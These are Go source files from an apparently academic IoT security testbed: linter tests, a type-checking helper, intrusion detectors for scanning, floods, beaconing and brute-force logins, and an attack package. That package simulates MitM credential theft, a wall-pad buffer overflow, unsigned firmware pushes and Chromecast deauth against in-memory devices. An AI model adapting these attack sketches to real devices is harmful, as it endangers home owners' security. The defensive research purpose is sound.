	// beyond the "not in table" entries for the temp module's packages).
	if !strings.Contains(stderr.String(), "finding(s)") {
		t.Errorf("stderr missing findings summary: %s", stderr.String())
	}
}

// TestDisableDropsRule shows -disable removes exactly that rule.
func TestDisableDropsRule(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	code := run([]string{"-root", root, "-disable", "determinism,errdrop,layercheck,lockcheck", "./..."}, &stdout, &stderr)
	if code != 0 {
		t.Fatalf("exit %d with all rules disabled, want 0\n%s%s", code, stdout.String(), stderr.String())
	}

	stdout.Reset()
	stderr.Reset()
	code = run([]string{"-root", root, "-disable", "lockcheck", "./..."}, &stdout, &stderr)
	if code != 1 {
		t.Fatalf("exit %d, want 1", code)
	}
	if strings.Contains(stdout.String(), "[lockcheck]") {
		t.Errorf("disabled rule still reported:\n%s", stdout.String())
	}
	if !strings.Contains(stdout.String(), "[determinism]") {
		t.Errorf("remaining rules missing:\n%s", stdout.String())
	}
}

func TestUnknownRuleRejected(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", repoRoot(t), "-disable", "nope", "./..."}, &stdout, &stderr); code != 2 {
		t.Fatalf("exit %d, want 2", code)
	}
	if !strings.Contains(stderr.String(), "unknown rule") {
		t.Errorf("stderr = %q", stderr.String())
	}
}

// TestPackagePatterns narrows the run to a subtree.
func TestPackagePatterns(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	code := run([]string{"-root", root, "./internal/sim"}, &stdout, &stderr)
	if code != 1 {
		t.Fatalf("exit %d, want 1\n%s", code, stderr.String())
	}
	out := stdout.String()
	if !strings.Contains(out, "[determinism]") {
		t.Errorf("sim-only run missing determinism finding:\n%s", out)
	}
	for _, other := range []string{"[layercheck]", "[lockcheck]", "[errdrop]"} {
		if strings.Contains(out, other) {
			t.Errorf("sim-only run leaked %s findings:\n%s", other, out)
		}
	}
}

// TestNoMatchPatternRejected: a typo'd pattern must not pass vacuously.
func TestNoMatchPatternRejected(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", repoRoot(t), "./does/not/exist"}, &stdout, &stderr); code != 2 {
		t.Fatalf("exit %d, want 2", code)
	}
	if !strings.Contains(stderr.String(), "matched no packages") {
		t.Errorf("stderr = %q", stderr.String())
	}
}

// TestJSONFindings checks the machine-readable shape on a dirty module.
func TestJSONFindings(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", root, "-json", "./internal/xauth"}, &stdout, &stderr); code != 1 {
		t.Fatalf("exit %d, want 1", code)
	}
	var findings []struct {
		File    string `json:"file"`
		Line    int    `json:"line"`
		Rule    string `json:"rule"`
		Message string `json:"message"`
	}
	if err := json.Unmarshal(stdout.Bytes(), &findings); err != nil {
		t.Fatalf("bad JSON: %v\n%s", err, stdout.String())
	}
	if len(findings) != 1 || findings[0].Rule != "errdrop" || findings[0].Line == 0 {
		t.Errorf("findings = %+v, want one errdrop entry with a line", findings)
	}
}
