package analysis

import (
	"go/ast"
	"go/types"
	"sort"
	"strings"
)

// This file gives the taint engine best-effort type information without
// leaving the standard library or the loaded source set. Packages are
// type-checked in intra-module dependency order; imports that resolve to
// another loaded package use its real checked types, while everything
// else (the standard library, unparsed third parties) is stubbed with an
// empty package. Type errors caused by the stubs are expected and
// ignored — what survives is exactly what the dataflow rules need:
// ident→object resolution for local variables and full method/receiver
// resolution for every call into a loaded package.

// pkgTypes is the tolerant type-check result for one Package.
type pkgTypes struct {
	tpkg *types.Package
	info *types.Info
}

// typeOracle owns the tolerant type-check of a loaded package set. It is
// shared between taint rules so the module is checked once per run.
type typeOracle struct {
	checked bool
	byPkg   map[*Package]*pkgTypes
}

// newTypeOracle returns an empty oracle; check populates it.
func newTypeOracle() *typeOracle {
	return &typeOracle{byPkg: make(map[*Package]*pkgTypes)}
}

// typesOf returns the checked types for pkg, or nil when pkg was not part
// of the checked set (the engine then falls back to syntactic matching).
func (o *typeOracle) typesOf(pkg *Package) *pkgTypes {
	return o.byPkg[pkg]
}

// stubImporter resolves loaded packages to their checked types and
// everything else to an empty stub, so type-checking never needs compiled
// export data or network access.
type stubImporter struct {
	loaded map[string]*pkgTypes
	stubs  map[string]*types.Package
}

func (s *stubImporter) Import(path string) (*types.Package, error) {
	if pt, ok := s.loaded[path]; ok && pt.tpkg != nil {
		return pt.tpkg, nil
	}
	if stub, ok := s.stubs[path]; ok {
		return stub, nil
	}
	name := path[strings.LastIndex(path, "/")+1:]
	stub := types.NewPackage(path, name)
	stub.MarkComplete()
	s.stubs[path] = stub
	return stub, nil
}

// check type-checks every package once, in dependency order. Repeat calls
// are no-ops, so multiple analyzers can share one oracle.
func (o *typeOracle) check(pkgs []*Package) {
	if o.checked {
		return
	}
	o.checked = true

	byPath := make(map[string]*Package, len(pkgs))
	for _, p := range pkgs {
		byPath[p.ImportPath] = p
	}
	imp := &stubImporter{
		loaded: make(map[string]*pkgTypes, len(pkgs)),
		stubs:  make(map[string]*types.Package),
	}

	// Topological order over intra-module imports (cycles cannot happen in
	// compilable Go; if the sources are broken we still terminate because
	// visited packages are marked before recursing).
	var order []*Package
	visited := make(map[*Package]bool)
	var visit func(p *Package)
	visit = func(p *Package) {
		if visited[p] {
			return
		}
		visited[p] = true
		for _, f := range p.Files {
			for _, spec := range f.AST.Imports {
				path := strings.Trim(spec.Path.Value, `"`)
				if dep, ok := byPath[path]; ok && dep != p {
					visit(dep)
				}
			}
		}
		order = append(order, p)
	}
	sorted := append([]*Package(nil), pkgs...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].ImportPath < sorted[j].ImportPath })
	for _, p := range sorted {
		visit(p)
	}

	for _, p := range order {
		info := &types.Info{
			Types:      make(map[ast.Expr]types.TypeAndValue),
			Defs:       make(map[*ast.Ident]types.Object),
			Uses:       make(map[*ast.Ident]types.Object),
			Selections: make(map[*ast.SelectorExpr]*types.Selection),
			Implicits:  make(map[ast.Node]types.Object),
		}
		conf := types.Config{
			Importer:                 imp,
			Error:                    func(error) {}, // stub-induced errors are expected
			FakeImportC:              true,
			DisableUnusedImportCheck: true,
		}
		files := make([]*ast.File, len(p.Files))
		for i, f := range p.Files {
			files[i] = f.AST
		}
		// Check never returns a nil package; errors are collected via the
		// Error callback and deliberately dropped.
		tpkg, _ := conf.Check(p.ImportPath, p.Fset, files, info)
		pt := &pkgTypes{tpkg: tpkg, info: info}
		o.byPkg[p] = pt
		imp.loaded[p.ImportPath] = pt
	}
}

// namedOf unwraps pointers and returns the named type's object name, or
// "" when t is not (a pointer to) a named type.
func namedOf(t types.Type) string {
	for {
		ptr, ok := t.(*types.Pointer)
		if !ok {
			break
		}
		t = ptr.Elem()
	}
	if n, ok := t.(*types.Named); ok {
		return n.Obj().Name()
	}
	return ""
}
