// Package ids implements XLF's malicious-activity identification (§IV-B3):
// streaming detectors over packet metadata for the activities the Nokia
// threat report attributes to IoT botnets — scanning, DDoS floods, C&C
// beaconing — plus telnet credential brute-forcing, the Mirai recruitment
// vector. Detectors see only observer-legal metadata (netsim.PacketRecord).
package ids

import (
	"fmt"
	"math"
	"sort"
	"time"

	"xlf/internal/netsim"
)

// Alert is one detection.
type Alert struct {
	Time     time.Duration
	Detector string
	Src      netsim.Addr
	Dst      netsim.Addr
	Detail   string
	// Confidence in (0,1].
	Confidence float64
}

func (a Alert) String() string {
	return fmt.Sprintf("[%s] %s src=%s dst=%s conf=%.2f %s", a.Time, a.Detector, a.Src, a.Dst, a.Confidence, a.Detail)
}

// Detector consumes packet records and emits alerts.
type Detector interface {
	// Name identifies the detector in alerts and reports.
	Name() string
	// Process consumes one record and returns any alerts it triggers.
	Process(rec netsim.PacketRecord) []Alert
}

// ScanDetector flags sources touching many distinct (dst, port) pairs in a
// sliding window — the fan-out signature of Mirai's random scanning.
type ScanDetector struct {
	// Window is the observation window.
	Window time.Duration
	// FanOut is the distinct-target threshold.
	FanOut int

	touched map[netsim.Addr][]targetSeen
	alerted map[netsim.Addr]time.Duration
}

type targetSeen struct {
	t      time.Duration
	target string
}

var _ Detector = (*ScanDetector)(nil)

// NewScanDetector returns a detector with the given window and fan-out
// threshold.
func NewScanDetector(window time.Duration, fanOut int) *ScanDetector {
	return &ScanDetector{
		Window:  window,
		FanOut:  fanOut,
		touched: make(map[netsim.Addr][]targetSeen),
		alerted: make(map[netsim.Addr]time.Duration),
	}
}

// Name implements Detector.
func (d *ScanDetector) Name() string { return "scan" }

// Process implements Detector.
func (d *ScanDetector) Process(rec netsim.PacketRecord) []Alert {
	key := fmt.Sprintf("%s:%d", rec.Dst, rec.DstPort)
	hist := append(d.touched[rec.Src], targetSeen{t: rec.Time, target: key})
	// Evict outside the window.
	cut := 0
	for cut < len(hist) && hist[cut].t < rec.Time-d.Window {
		cut++
	}
	hist = hist[cut:]
	d.touched[rec.Src] = hist

	distinct := make(map[string]struct{}, len(hist))
	for _, h := range hist {
		distinct[h.target] = struct{}{}
	}
	if len(distinct) < d.FanOut {
		return nil
	}
	// Rate-limit: one alert per source per window.
	if last, ok := d.alerted[rec.Src]; ok && rec.Time-last < d.Window {
		return nil
	}
	d.alerted[rec.Src] = rec.Time
	conf := math.Min(1, float64(len(distinct))/float64(2*d.FanOut))
	return []Alert{{
		Time: rec.Time, Detector: d.Name(), Src: rec.Src, Dst: rec.Dst,
		Detail:     fmt.Sprintf("%d distinct targets in %s", len(distinct), d.Window),
		Confidence: math.Max(conf, 0.5),
	}}
}

// FloodDetector flags destinations receiving traffic far above baseline —
// volumetric DDoS. It tracks per-destination packet rates in fixed bins.
type FloodDetector struct {
	// Bin is the rate-measurement bin.
	Bin time.Duration
	// PacketsPerBin is the alert threshold.
	PacketsPerBin int
	// MinSources additionally requires this many distinct sources
	// (distributed-ness); 1 disables the requirement.
	MinSources int

	bins    map[netsim.Addr]*floodBin
	alerted map[netsim.Addr]time.Duration
}

type floodBin struct {
	start   time.Duration
	count   int
	sources map[netsim.Addr]struct{}
}

var _ Detector = (*FloodDetector)(nil)

// NewFloodDetector returns a volumetric detector.
func NewFloodDetector(bin time.Duration, packetsPerBin, minSources int) *FloodDetector {
	return &FloodDetector{
		Bin: bin, PacketsPerBin: packetsPerBin, MinSources: minSources,
		bins:    make(map[netsim.Addr]*floodBin),
		alerted: make(map[netsim.Addr]time.Duration),
	}
}

// Name implements Detector.
func (d *FloodDetector) Name() string { return "ddos-flood" }

// Process implements Detector.
func (d *FloodDetector) Process(rec netsim.PacketRecord) []Alert {
	b := d.bins[rec.Dst]
	if b == nil || rec.Time-b.start >= d.Bin {
		b = &floodBin{start: rec.Time, sources: make(map[netsim.Addr]struct{})}
		d.bins[rec.Dst] = b
	}
	b.count++
	b.sources[rec.Src] = struct{}{}
	if b.count < d.PacketsPerBin || len(b.sources) < d.MinSources {
		return nil
	}
	if last, ok := d.alerted[rec.Dst]; ok && rec.Time-last < d.Bin {
		return nil
	}
	d.alerted[rec.Dst] = rec.Time
	return []Alert{{
		Time: rec.Time, Detector: d.Name(), Src: rec.Src, Dst: rec.Dst,
		Detail:     fmt.Sprintf("%d pkts from %d sources within %s", b.count, len(b.sources), d.Bin),
		Confidence: math.Min(1, float64(b.count)/float64(2*d.PacketsPerBin)+0.5),
	}}
}

// BeaconDetector flags (src, dst) pairs with highly regular inter-arrival
// times over many packets — C&C keep-alive beaconing.
type BeaconDetector struct {
	// MinSamples is how many intervals must be seen before judging.
	MinSamples int
	// MaxCV is the maximum coefficient of variation (stddev/mean) for the
	// intervals to count as machine-regular.
	MaxCV float64

	last      map[beaconKey]time.Duration
	intervals map[beaconKey][]float64
	alerted   map[beaconKey]bool
}

type beaconKey struct {
	src, dst netsim.Addr
}

var _ Detector = (*BeaconDetector)(nil)

// NewBeaconDetector returns a beaconing detector.
func NewBeaconDetector(minSamples int, maxCV float64) *BeaconDetector {
	return &BeaconDetector{
		MinSamples: minSamples, MaxCV: maxCV,
		last:      make(map[beaconKey]time.Duration),
		intervals: make(map[beaconKey][]float64),
		alerted:   make(map[beaconKey]bool),
	}
}

// Name implements Detector.
func (d *BeaconDetector) Name() string { return "cc-beacon" }

// Process implements Detector.
func (d *BeaconDetector) Process(rec netsim.PacketRecord) []Alert {
	k := beaconKey{rec.Src, rec.Dst}
	if prev, ok := d.last[k]; ok {
		d.intervals[k] = append(d.intervals[k], (rec.Time - prev).Seconds())
		if len(d.intervals[k]) > 4*d.MinSamples {
			d.intervals[k] = d.intervals[k][len(d.intervals[k])-2*d.MinSamples:]
		}
	}
	d.last[k] = rec.Time

	iv := d.intervals[k]
	if len(iv) < d.MinSamples || d.alerted[k] {
		return nil
	}
	mean, sd := meanStd(iv)
	if mean <= 0 {
		return nil
	}
	cv := sd / mean
	if cv > d.MaxCV {
		return nil
	}
	d.alerted[k] = true
	return []Alert{{
		Time: rec.Time, Detector: d.Name(), Src: rec.Src, Dst: rec.Dst,
		Detail:     fmt.Sprintf("period=%.2fs cv=%.3f over %d intervals", mean, cv, len(iv)),
		Confidence: math.Min(1, 1-cv/d.MaxCV+0.5),
	}}
}

func meanStd(xs []float64) (float64, float64) {
	if len(xs) == 0 {
		return 0, 0
	}
	var sum float64
	for _, x := range xs {
		sum += x
	}
	mean := sum / float64(len(xs))
	var ss float64
	for _, x := range xs {
		ss += (x - mean) * (x - mean)
	}
	return mean, math.Sqrt(ss / float64(len(xs)))
}

// BruteForceDetector flags repeated small packets to authentication ports
// (telnet/ssh/http-auth) from one source — credential stuffing.
type BruteForceDetector struct {
	Window   time.Duration
	Attempts int
	// Ports lists authentication service ports to watch.
	Ports map[int]bool

	seen    map[beaconKey][]time.Duration
	alerted map[beaconKey]time.Duration
}

var _ Detector = (*BruteForceDetector)(nil)

// NewBruteForceDetector returns a credential-stuffing detector watching
// telnet (23), ssh (22) and http (80) by default.
func NewBruteForceDetector(window time.Duration, attempts int) *BruteForceDetector {
	return &BruteForceDetector{
		Window: window, Attempts: attempts,
		Ports:   map[int]bool{22: true, 23: true, 80: true},
		seen:    make(map[beaconKey][]time.Duration),
		alerted: make(map[beaconKey]time.Duration),
	}
}

// Name implements Detector.
func (d *BruteForceDetector) Name() string { return "bruteforce" }

// Process implements Detector.
func (d *BruteForceDetector) Process(rec netsim.PacketRecord) []Alert {
	if !d.Ports[rec.DstPort] {
		return nil
	}
	k := beaconKey{rec.Src, rec.Dst}
	hist := append(d.seen[k], rec.Time)
	cut := 0
	for cut < len(hist) && hist[cut] < rec.Time-d.Window {
		cut++
	}
	hist = hist[cut:]
	d.seen[k] = hist
	if len(hist) < d.Attempts {
		return nil
	}
	if last, ok := d.alerted[k]; ok && rec.Time-last < d.Window {
		return nil
	}
	d.alerted[k] = rec.Time
	return []Alert{{
		Time: rec.Time, Detector: d.Name(), Src: rec.Src, Dst: rec.Dst,
		Detail:     fmt.Sprintf("%d auth attempts to port %d within %s", len(hist), rec.DstPort, d.Window),
		Confidence: math.Min(1, float64(len(hist))/float64(2*d.Attempts)+0.4),
	}}
}

// Pipeline fans records out to several detectors and collects alerts.
type Pipeline struct {
	detectors []Detector
	alerts    []Alert
}

// NewPipeline composes detectors.
func NewPipeline(ds ...Detector) *Pipeline {
	return &Pipeline{detectors: ds}
}

// DefaultPipeline returns the standard XLF network-layer detector set
// tuned for the testbed's time scales.
func DefaultPipeline() *Pipeline {
	return NewPipeline(
		NewScanDetector(10*time.Second, 12),
		NewFloodDetector(time.Second, 150, 3),
		NewBeaconDetector(8, 0.12),
		NewBruteForceDetector(30*time.Second, 8),
	)
}

// Process feeds one record through all detectors.
func (p *Pipeline) Process(rec netsim.PacketRecord) []Alert {
	var out []Alert
	for _, d := range p.detectors {
		out = append(out, d.Process(rec)...)
	}
	p.alerts = append(p.alerts, out...)
	return out
}

// ProcessAll feeds a capture through the pipeline in time order.
func (p *Pipeline) ProcessAll(recs []netsim.PacketRecord) []Alert {
	sorted := append([]netsim.PacketRecord(nil), recs...)
	sort.SliceStable(sorted, func(i, j int) bool { return sorted[i].Time < sorted[j].Time })
	var out []Alert
	for _, r := range sorted {
		out = append(out, p.Process(r)...)
	}
	return out
}

// Alerts returns every alert seen so far (a copy).
func (p *Pipeline) Alerts() []Alert { return append([]Alert(nil), p.alerts...) }
