package analytics

import (
	"math"
	"testing"
	"time"
)

func TestEWMAValidation(t *testing.T) {
	for _, a := range []float64{0, -1, 1.5} {
		if _, err := NewEWMA(a); err == nil {
			t.Errorf("alpha %v accepted", a)
		}
	}
	if _, err := NewEWMA(0.2); err != nil {
		t.Fatal(err)
	}
}

func TestEWMAConvergesToConstant(t *testing.T) {
	e, _ := NewEWMA(0.3)
	for i := 0; i < 100; i++ {
		e.Update(42)
	}
	if math.Abs(e.Mean()-42) > 1e-9 {
		t.Errorf("mean = %v, want 42", e.Mean())
	}
	if e.Std() > 1e-6 {
		t.Errorf("std = %v, want ~0", e.Std())
	}
	if e.Count() != 100 {
		t.Errorf("count = %d", e.Count())
	}
}

func TestEWMAZScoreFlagsSpike(t *testing.T) {
	e, _ := NewEWMA(0.1)
	// Noisy-ish baseline around 100 (deterministic wobble).
	for i := 0; i < 200; i++ {
		e.Update(100 + float64(i%7) - 3)
	}
	if z := e.ZScore(101); math.Abs(z) > 2 {
		t.Errorf("normal value z = %v", z)
	}
	if z := e.ZScore(200); z < 5 {
		t.Errorf("spike z = %v, want large", z)
	}
}

func TestEWMAColdStart(t *testing.T) {
	e, _ := NewEWMA(0.3)
	e.Update(10)
	if z := e.ZScore(1000); z != 0 {
		t.Errorf("cold-start z = %v, want 0", z)
	}
	// Zero variance path.
	for i := 0; i < 10; i++ {
		e.Update(10)
	}
	if z := e.ZScore(10); z != 0 {
		t.Errorf("identical value z = %v", z)
	}
	if z := e.ZScore(11); !math.IsInf(z, 1) {
		t.Errorf("divergent value z = %v, want +Inf", z)
	}
}

func TestCUSUMDetectsDrift(t *testing.T) {
	c, err := NewCUSUM(10, 0.5, 5)
	if err != nil {
		t.Fatal(err)
	}
	// On-target stream never alarms.
	for i := 0; i < 100; i++ {
		if c.Update(10) {
			t.Fatal("false alarm on target")
		}
	}
	// Small persistent drift alarms eventually.
	fired := false
	for i := 0; i < 100; i++ {
		if c.Update(11.5) {
			fired = true
			break
		}
	}
	if !fired {
		t.Error("CUSUM missed a persistent drift")
	}
	if _, err := NewCUSUM(0, -1, 1); err == nil {
		t.Error("negative slack accepted")
	}
	if _, err := NewCUSUM(0, 0, 0); err == nil {
		t.Error("zero threshold accepted")
	}
}

func TestCUSUMDetectsDownwardShift(t *testing.T) {
	c, _ := NewCUSUM(10, 0.5, 5)
	fired := false
	for i := 0; i < 100; i++ {
		if c.Update(8) {
			fired = true
			break
		}
	}
	if !fired {
		t.Error("CUSUM missed a downward shift")
	}
}

func TestDayProfileSeparatesHours(t *testing.T) {
	p, err := NewDayProfile(0.2)
	if err != nil {
		t.Fatal(err)
	}
	// Train: quiet nights (hour 3), busy evenings (hour 20), over 30 days.
	for day := 0; day < 30; day++ {
		base := time.Duration(day) * 24 * time.Hour
		p.Update(base+3*time.Hour, 5+float64(day%3))
		p.Update(base+20*time.Hour, 500+float64(day*7%50))
	}
	// 500 B/s at 8pm is normal...
	if z := p.ZScore(31*24*time.Hour+20*time.Hour, 510); math.Abs(z) > 2 {
		t.Errorf("evening normal z = %v", z)
	}
	// ...but the same rate at 3am is an anomaly.
	if z := p.ZScore(31*24*time.Hour+3*time.Hour, 510); z < 10 {
		t.Errorf("night anomaly z = %v, want large", z)
	}
}

func TestCorrelatorWindowWeather(t *testing.T) {
	c := NewCorrelator(HomeRules())
	// The paper's scenario: attacker heats the room, automation opens the
	// window — but it is 30F outside and nobody is home.
	findings := c.Evaluate("window-1", "open", 0, Context{OutdoorTempF: 30, UserHome: false})
	if len(findings) == 0 {
		t.Fatal("window/weather inconsistency not flagged")
	}
	top := findings[0]
	if top.Score < 0.5 {
		t.Errorf("score = %v, want strong", top.Score)
	}
	// Warm day with the user home: perfectly normal.
	if f := c.Evaluate("window-1", "open", 0, Context{OutdoorTempF: 85, UserHome: true}); len(f) != 0 {
		t.Errorf("benign window open flagged: %+v", f)
	}
	// Unlock while away triggers the away rule.
	if f := c.Evaluate("window-1", "unlock", 0, Context{OutdoorTempF: 85, UserHome: false}); len(f) == 0 {
		t.Error("unlock-while-away not flagged")
	}
	// Non-actuation events ignored.
	if f := c.Evaluate("thermo-1", "temperature", 72, Context{OutdoorTempF: 30, UserHome: false}); len(f) != 0 {
		t.Errorf("sensor reading flagged: %+v", f)
	}
}
