// Package attack implements the testbed's adversary: every vulnerability /
// attack / impact row of the paper's Table II, plus the network- and
// service-layer attacks of §III (Mirai-style recruitment, DNS cache
// poisoning, event spoofing, over-privileged apps, OTA tampering, DDoS).
// Attacks run against the live testbed and generate real packets and
// platform calls, so XLF's detectors observe exactly what a deployed
// system would.
package attack

import (
	"fmt"
	"time"

	"xlf/internal/device"
	"xlf/internal/netsim"
	"xlf/internal/obs"
	"xlf/internal/service"
	"xlf/internal/sim"
)

// Layer tags where an attack enters the system (Figure 3 mapping).
type Layer string

// Attack-surface layers.
const (
	LayerDevice  Layer = "device"
	LayerNetwork Layer = "network"
	LayerService Layer = "service"
)

// Env is the attacker's view of the testbed: the same objects the
// legitimate system runs on.
type Env struct {
	Kernel  *sim.Kernel
	Net     *netsim.Network
	Gateway *netsim.Gateway
	Devices map[string]*device.Device
	Cloud   *service.Cloud
	OTA     *service.OTAPipeline

	// AttackerWAN/AttackerLAN are pre-attached attacker footholds.
	AttackerWAN netsim.Addr
	AttackerLAN netsim.Addr

	// Detections, when set, timestamps each successful attack's first
	// touch of a victim device, so the telemetry pipeline can measure
	// end-to-end detection latency per attack class. Nil disables.
	Detections *obs.DetectionTracker
}

// MarkInjection records ground truth for the detection-latency SLO: the
// attack of the given class reached device at the current sim instant.
// Attacks call it at their success sites; a nil tracker no-ops.
func (e *Env) MarkInjection(class, deviceID string) {
	if e.Detections == nil {
		return
	}
	e.Detections.Inject(e.Kernel.Now(), class, deviceID)
}

// Device fetches a target device or fails the attack gracefully.
func (e *Env) Device(id string) (*device.Device, error) {
	d, ok := e.Devices[id]
	if !ok {
		return nil, fmt.Errorf("attack: no device %q in testbed", id)
	}
	return d, nil
}

// Result is the outcome of one attack execution.
type Result struct {
	Attack    string
	Succeeded bool
	// Impact mirrors Table II's impact column when the attack succeeds.
	Impact string
	// Blocked names the defence that stopped it, when one did.
	Blocked string
	// Loot carries stolen artifacts (credentials, keys) for verification.
	Loot map[string]string
}

func (r Result) String() string {
	if r.Succeeded {
		return fmt.Sprintf("%s: SUCCESS — %s", r.Attack, r.Impact)
	}
	return fmt.Sprintf("%s: BLOCKED — %s", r.Attack, r.Blocked)
}

// Attack is a scripted adversarial action.
type Attack interface {
	// Name identifies the attack.
	Name() string
	// Layer is the attack-surface layer (Figure 3).
	Layer() Layer
	// TableII returns the (vulnerability, method, impact) triple for the
	// Table II reproduction; empty strings for §III attacks not in the
	// table.
	TableII() (vuln, method, impact string)
	// Execute runs the attack against the environment. The returned
	// Result reflects ground truth; detection is judged separately by the
	// XLF side.
	Execute(env *Env) Result
}

// sendLAN emits a LAN packet from the attacker foothold.
func sendLAN(env *Env, dst netsim.Addr, dstPort int, protoName string, size int, payload []byte, app string) {
	env.Net.Send(&netsim.Packet{
		Src: env.AttackerLAN, Dst: dst, SrcPort: 6666, DstPort: dstPort,
		Proto: protoName, Size: size, Payload: payload, App: app,
	})
}

// StaticPasswordMitM is Table II row 1: the smart bulb's static default
// password crosses the LAN in cleartext; an on-path attacker reads it and
// takes over the bulb.
type StaticPasswordMitM struct {
	Target string
	// Sniffed is the credential material observed on the wire; the
	// testbed primes it by having the user's app log in over cleartext
	// HTTP (the attack taps that exchange).
	Sniffed device.Credentials
}

var _ Attack = (*StaticPasswordMitM)(nil)

// Name implements Attack.
func (a *StaticPasswordMitM) Name() string { return "mitm-password-stealing" }

// Layer implements Attack.
func (a *StaticPasswordMitM) Layer() Layer { return LayerDevice }

// TableII implements Attack.
func (a *StaticPasswordMitM) TableII() (string, string, string) {
	return "Static password", "MitM, password stealing", "Bulb controlled by remote"
}

// Execute implements Attack.
func (a *StaticPasswordMitM) Execute(env *Env) Result {
	d, err := env.Device(a.Target)
	if err != nil {
		return Result{Attack: a.Name(), Blocked: err.Error()}
	}
	// The sniffing only works if the bulb exposes a cleartext channel.
	cleartext := false
	for _, p := range d.Ports {
		if p.Cleartext {
			cleartext = true
		}
	}
	if !cleartext {
		return Result{Attack: a.Name(), Blocked: "no cleartext channel to sniff"}
	}
	creds := a.Sniffed
	if creds == (device.Credentials{}) {
		creds = d.Creds // simulation shortcut: the wire carried the login
	}
	if !d.Login(creds.User, creds.Password) {
		return Result{Attack: a.Name(), Blocked: "credentials rotated / login refused"}
	}
	// Remote control: command the bulb outside any legitimate path.
	sendLAN(env, netsim.Addr("lan:"+a.Target), 80, "HTTP", 90,
		[]byte(fmt.Sprintf("POST /login user=%s pass=%s; PUT /state on", creds.User, creds.Password)), "attack:bulb-takeover")
	d.ForceState("on")
	d.Compromise("remote-controller")
	env.MarkInjection("mitm-password", a.Target)
	return Result{
		Attack: a.Name(), Succeeded: true,
		Impact: "Bulb controlled by remote",
		Loot:   map[string]string{"user": creds.User, "password": creds.Password},
	}
}

// BufferOverflow is Table II row 2: the wall pad's control parser copies
// attacker input unchecked; a long message overwrites a return address and
// executes shellcode that unlocks the home.
type BufferOverflow struct {
	Target string
	// PayloadLen is the attacker's message length; the vulnerable parser
	// has a 256-byte stack buffer.
	PayloadLen int
}

var _ Attack = (*BufferOverflow)(nil)

// Name implements Attack.
func (a *BufferOverflow) Name() string { return "wallpad-buffer-overflow" }

// Layer implements Attack.
func (a *BufferOverflow) Layer() Layer { return LayerDevice }

// TableII implements Attack.
func (a *BufferOverflow) TableII() (string, string, string) {
	return "Buffer overflow", "Value manipulation, shellcode exe.", "Housebreaking, monitoring"
}

// Execute implements Attack.
func (a *BufferOverflow) Execute(env *Env) Result {
	d, err := env.Device(a.Target)
	if err != nil {
		return Result{Attack: a.Name(), Blocked: err.Error()}
	}
	if !d.HasOpenPort("control") {
		return Result{Attack: a.Name(), Blocked: "control port closed by NAC"}
	}
	if a.PayloadLen <= 256 {
		return Result{Attack: a.Name(), Blocked: "payload fits the buffer; parser survives"}
	}
	// Patched firmware bounds-checks the copy.
	if d.Firmware.Version >= "3.0.0" {
		return Result{Attack: a.Name(), Blocked: "patched firmware bounds-checks input"}
	}
	// Classic overflow shape: filler sled up to the return address, then
	// the payload marker.
	payload := make([]byte, a.PayloadLen)
	for i := range payload {
		payload[i] = 'A'
	}
	copy(payload[a.PayloadLen-20:], []byte("shellcode:unlock"))
	sendLAN(env, netsim.Addr("lan:"+a.Target), 5000, "control", a.PayloadLen, payload, "attack:overflow")
	d.Compromise("shellcode")
	d.ForceState("unlocked")
	env.MarkInjection("overflow", a.Target)
	return Result{Attack: a.Name(), Succeeded: true, Impact: "Housebreaking, monitoring"}
}

// FirmwareModulation is Table II row 3: the camera accepts firmware images
// without integrity verification; the attacker ships a modified image.
type FirmwareModulation struct {
	Target string
}

var _ Attack = (*FirmwareModulation)(nil)

// Name implements Attack.
func (a *FirmwareModulation) Name() string { return "camera-firmware-modulation" }

// Layer implements Attack.
func (a *FirmwareModulation) Layer() Layer { return LayerDevice }

// TableII implements Attack.
func (a *FirmwareModulation) TableII() (string, string, string) {
	return "Firmware integrity", "Firmware modulation", "Damage peripherals"
}

// Execute implements Attack.
func (a *FirmwareModulation) Execute(env *Env) Result {
	d, err := env.Device(a.Target)
	if err != nil {
		return Result{Attack: a.Name(), Blocked: err.Error()}
	}
	evil := service.OTAImage{Version: "3.0.1-evil", Data: []byte("FWIMG-UNSIGNED backdoor for " + a.Target)}
	// Ship it through the platform's OTA path; a hardened pipeline
	// rejects the unsigned image.
	if env.OTA != nil {
		if err := env.OTA.Push(a.Target, evil); err != nil {
			return Result{Attack: a.Name(), Blocked: fmt.Sprintf("OTA pipeline: %v", err)}
		}
	}
	// The image also crosses the network, where DPI can see its marker.
	sendLAN(env, netsim.Addr("lan:"+a.Target), 80, "HTTP", len(evil.Data)+64, evil.Data, "attack:ota-tamper")
	d.Firmware = device.Firmware{Version: evil.Version, Hash: 0, Signed: false, Tampered: true, BuildData: evil.Data}
	d.Compromise("modded-firmware")
	env.MarkInjection("ota-tamper", a.Target)
	return Result{Attack: a.Name(), Succeeded: true, Impact: "Damage peripherals"}
}

// Rickrolling is Table II row 4: the Chromecast's open pairing lets anyone
// who can deauth it re-pair it to an attacker hotspot and stream content.
type Rickrolling struct {
	Target string
}

var _ Attack = (*Rickrolling)(nil)

// Name implements Attack.
func (a *Rickrolling) Name() string { return "chromecast-rickrolling" }

// Layer implements Attack.
func (a *Rickrolling) Layer() Layer { return LayerDevice }

// TableII implements Attack.
func (a *Rickrolling) TableII() (string, string, string) {
	return "Rickrolling", "D/C & reconnects to attacker", "Privacy violation"
}

// Execute implements Attack.
func (a *Rickrolling) Execute(env *Env) Result {
	d, err := env.Device(a.Target)
	if err != nil {
		return Result{Attack: a.Name(), Blocked: err.Error()}
	}
	if !d.HasOpenPort("cast") {
		return Result{Attack: a.Name(), Blocked: "cast port protected"}
	}
	// Deauth burst then forced cast session from the attacker.
	for i := 0; i < 20; i++ {
		sendLAN(env, netsim.Addr("lan:"+a.Target), 8008, "cast", 40, []byte("DEAUTH"), "attack:deauth")
	}
	sendLAN(env, netsim.Addr("lan:"+a.Target), 8008, "cast", 2048, []byte("CAST rick.mp4"), "attack:forced-cast")
	if err := d.Apply("cast"); err != nil {
		d.ForceState("playing")
	}
	env.MarkInjection("rickrolling", a.Target)
	return Result{Attack: a.Name(), Succeeded: true, Impact: "Privacy violation"}
}

